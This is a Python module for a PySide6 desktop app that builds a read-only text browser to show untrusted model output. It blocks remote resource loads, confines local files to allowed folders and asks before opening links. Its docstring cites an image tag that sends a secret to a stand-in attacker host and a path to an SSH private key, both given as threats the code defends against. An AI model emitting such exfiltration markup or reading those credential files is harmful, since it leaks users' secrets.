"""The one widget that shows model output, hardened against exfiltration and link tricks.

QTextBrowser will happily fetch whatever a document names: images, stylesheets, backgrounds.
Model output is untrusted, so a reply could carry ``<img src="http://attacker/?q=secret">``
or point at ``file:///home/user/.ssh/id_rsa``. Every resource goes through one policy here:
local files only inside the allowed roots (after resolving symlinks), inline ``data:`` images,
and nothing else. Links never open on click; they are handed to the view, which asks first.
"""

from __future__ import annotations

import base64
import logging
import os
import urllib.parse
from collections import OrderedDict
from collections.abc import Callable, Iterable
from pathlib import Path

from PySide6.QtCore import QBuffer, QByteArray, QIODevice, Qt, QUrl, Signal
from PySide6.QtGui import QDesktopServices, QGuiApplication, QImage, QImageReader, QTextDocument
from PySide6.QtWidgets import QMessageBox, QTextBrowser, QWidget

from app.ui.markdown import COPY_SCHEME, render_markdown

log = logging.getLogger("hearth.ui")

_IMAGE = int(QTextDocument.ResourceType.ImageResource.value)
_MAX_RESOURCE_BYTES = 32 * 1024 * 1024
# Vector formats are refused for inline data: SVG may itself reference other files.
_RASTER_FORMATS = frozenset({b"png", b"jpeg", b"jpg", b"gif", b"bmp", b"webp", b"ico"})

_CACHE_ENTRIES = 64

Loader = Callable[[int, QUrl], object]


class GuardedDocument(QTextDocument):
    """A document whose resource loading can only go through the owning browser's policy.

    The stock QTextDocument.loadResource asks its parent first and, when the parent returns
    nothing, reads local files itself; Qt's image handler then tries ``QImage::load(src)``
    directly as a last resort. Overriding loadResource here removes the first fallback, and
    answering every refused image with a blank placeholder removes the second.
    """

    def __init__(self, loader: Loader, parent: QWidget) -> None:
        super().__init__(parent)
        self._loader = loader
        # Our own cache rather than addResource(): entries added there outlive setHtml and
        # could not be dropped when the allowed roots change.
        self._cache: OrderedDict[tuple[int, str], object] = OrderedDict()

    def loadResource(self, resource_type: int, url: QUrl | str) -> object:  # noqa: N802 - Qt override
        kind, target = int(resource_type), QUrl(url)
        key = (kind, target.toString(QUrl.ComponentFormattingOption.FullyEncoded))
        if key in self._cache:
            self._cache.move_to_end(key)
            return self._cache[key]
        result = self._loader(kind, target)
        if result is None and kind == _IMAGE:
            result = _placeholder_image()
        # Cached, refusals included, so repaints neither re-read files nor re-log a refusal.
        self._cache[key] = result
        if len(self._cache) > _CACHE_ENTRIES:
            self._cache.popitem(last=False)
        return result

    def forget_resources(self) -> None:
        self._cache.clear()
        self.markContentsDirty(0, self.characterCount())


def _placeholder_image() -> QImage:
    image = QImage(1, 1, QImage.Format.Format_ARGB32)
    image.fill(0)
    return image


def _decode_data_url(url: QUrl) -> bytes | None:
    text = url.toString(QUrl.ComponentFormattingOption.FullyEncoded)
    header, sep, payload = text.partition(",")
    if not sep:
        return None
    raw = urllib.parse.unquote_to_bytes(payload)
    if header.lower().endswith(";base64"):
        try:
            return base64.b64decode(raw, validate=False)
        except ValueError:
            return None
    return raw


def _raster_image(data: bytes) -> QImage | None:
    buffer = QBuffer()
    buffer.setData(QByteArray(data))
    buffer.open(QIODevice.OpenModeFlag.ReadOnly)
    reader = QImageReader(buffer)
    reader.setDecideFormatFromContent(True)
    if bytes(reader.format().data()).lower() not in _RASTER_FORMATS:
        return None
    image = reader.read()
    return None if image.isNull() else image


def _read_file(path: Path, resource_type: int) -> object | None:
    try:
        with open(path, "rb") as handle:
            data = handle.read(_MAX_RESOURCE_BYTES + 1)
    except OSError:
        return None
    if len(data) > _MAX_RESOURCE_BYTES:
        return None
    if resource_type == _IMAGE:
        image = QImage.fromData(data)
        return None if image.isNull() else image
    return QByteArray(data)


class SafeTextBrowser(QTextBrowser):
    """Read-only rich-text view for untrusted content.

    Signals: ``copyRequested(str)`` with the id after ``hearth-copy:``; ``linkRequested(QUrl)``
    for every other link, which the caller should pass to :func:`confirm_and_open`.
    """

    copyRequested = Signal(str)
    linkRequested = Signal(QUrl)

    def __init__(self, parent: QWidget | None = None, allowed_roots: Iterable[Path] = ()) -> None:
        super().__init__(parent)
        self.blocked: list[str] = []
        self._roots: tuple[Path, ...] = ()
        self._code_blocks: tuple[str, ...] = ()
        super().setDocument(GuardedDocument(self.loadResource, self))
        self.set_allowed_roots(allowed_roots)
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)
        self.anchorClicked.connect(self._on_anchor)
        self.copyRequested.connect(self._copy_block)

    # -- configuration -------------------------------------------------------------------

    @property
    def allowed_roots(self) -> list[Path]:
        return list(self._roots)

    def set_allowed_roots(self, roots: Iterable[Path]) -> None:
        # Compared as real paths, so a root given through a symlink still matches its files.
        self._roots = tuple(Path(os.path.realpath(root)) for root in roots)
        document = self.document()
        if isinstance(document, GuardedDocument):
            document.forget_resources()

    def setDocument(self, document: QTextDocument) -> None:  # noqa: N802 - Qt override
        if not isinstance(document, GuardedDocument):
            raise TypeError("SafeTextBrowser only accepts a GuardedDocument")
        super().setDocument(document)

    def setSearchPaths(self, paths: Iterable[str]) -> None:  # noqa: N802 - Qt override
        # Search paths would let bare names resolve to files outside the allowed roots.
        if list(paths):
            raise ValueError("SafeTextBrowser does not use search paths")
        super().setSearchPaths([])

    # -- content -------------------------------------------------------------------------

    def set_markdown(self, text: str, dark: bool = False) -> None:
        rendered = render_markdown(text, dark=dark)
        self._code_blocks = rendered.code_blocks
        self.setHtml(rendered.html)

    @property
    def code_blocks(self) -> tuple[str, ...]:
        return self._code_blocks

    # -- resource policy -----------------------------------------------------------------

    def loadResource(self, resource_type: int, url: QUrl | str) -> object:  # noqa: N802 - Qt override
        """Return the resource if policy allows it, else None (an empty QVariant)."""
        url = QUrl(url)
        try:
            result = self._load_allowed(int(resource_type), url)
        except Exception:
            # Called from C++: an exception cannot propagate, and a failure must mean "refused".
            log.exception("resource policy failed for %s", url.toString())
            result = None
        if result is None:
            shown = url.toString()
            self.blocked.append(shown)
            log.debug("blocked resource (type %d): %.200s", int(resource_type), shown)
        return result

    def _load_allowed(self, resource_type: int, url: QUrl) -> object | None:
        resolved = self._resolve(url)
        if resolved is None:
            return None
        scheme = resolved.scheme().lower()
        if scheme == "data" and resource_type == _IMAGE:
            data = _decode_data_url(resolved)
            return None if data is None else _raster_image(data)
        if scheme == "file":
            path = self._allowed_path(resolved)
            return None if path is None else _read_file(path, resource_type)
        return None

    def _resolve(self, url: QUrl) -> QUrl | None:
        if not url.isRelative():
            return url
        base = self.document().baseUrl()
        # With no base, a relative name would mean "relative to the process's cwd": refuse.
        if base.isEmpty() or base.isRelative():
            return None
        return base.resolved(url)

    def _allowed_path(self, url: QUrl) -> Path | None:
        if url.host() not in ("", "localhost"):
            return None
        local = url.toLocalFile()
        if not local:
            return None
        real = Path(os.path.realpath(local))
        for root in self._roots:
            if real.is_relative_to(root) and real.is_file():
                return real
        return None

    # -- clicks --------------------------------------------------------------------------

    def _on_anchor(self, url: QUrl) -> None:
        if url.scheme() == COPY_SCHEME:
            self.copyRequested.emit(url.toString()[len(COPY_SCHEME) + 1 :])
        else:
            self.linkRequested.emit(QUrl(url))

    def _copy_block(self, block_id: str) -> None:
        # Ids from set_markdown are bare indexes; other ids belong to whoever set the HTML.
        if block_id.isdecimal() and int(block_id) < len(self._code_blocks):
            QGuiApplication.clipboard().setText(self._code_blocks[int(block_id)])


# -- opening links ---------------------------------------------------------------------------

_YES = QMessageBox.StandardButton.Yes
_NO = QMessageBox.StandardButton.No


def is_openable_link(url: QUrl) -> bool:
    """Whether a link may be offered for opening at all: http(s) with a host, or mailto."""
    if not url.isValid():
        return False
    scheme = url.scheme().lower()
    if scheme in ("http", "https"):
        return bool(url.host())
    return scheme == "mailto" and bool(url.path())


def full_link_text(url: QUrl) -> str:
    # Fully encoded: punycode hosts and escaped characters cannot pass for something else.
    return url.toString(QUrl.ComponentFormattingOption.FullyEncoded)


def build_confirm_box(parent: QWidget | None, url: QUrl) -> QMessageBox:
    box = QMessageBox(parent)
    box.setIcon(QMessageBox.Icon.Question)
    box.setWindowTitle("Open link")
    # Plain text: the URL came from the model and must not be interpreted as markup.
    box.setTextFormat(Qt.TextFormat.PlainText)
    lines = ["Open this link in your browser?", "", full_link_text(url)]
    host = url.host(QUrl.ComponentFormattingOption.FullyEncoded)
    if host:
        lines += ["", f"Site: {host}"]
    box.setText("\n".join(lines))
    box.setStandardButtons(_YES | _NO)
    box.setDefaultButton(_NO)
    box.setEscapeButton(_NO)
    return box


def _ask(box: QMessageBox) -> object:
    return box.exec()


def confirm_and_open(
    parent: QWidget | None,
    url: QUrl,
    *,
    make_box: Callable[[QWidget | None, QUrl], QMessageBox] = build_confirm_box,
    ask: Callable[[QMessageBox], object] = _ask,
    opener: Callable[[QUrl], object] = QDesktopServices.openUrl,
) -> bool:
    """Show the full URL, ask, and open it in the system browser only on an explicit Yes.

    ``ask`` receives the built box and returns the button pressed; tests pass their own.
    Returns whether the link was opened.
    """
    if not is_openable_link(url):
        log.debug("refused to offer link: %s", url.toString())
        return False
    box = make_box(parent, url)
    try:
        answer = ask(box)
    finally:
        box.deleteLater()
    if not _is_yes(answer):
        return False
    return bool(opener(QUrl(url)))


def _is_yes(answer: object) -> bool:
    if isinstance(answer, QMessageBox.StandardButton):
        return answer == _YES
    return isinstance(answer, int) and answer == _YES.value
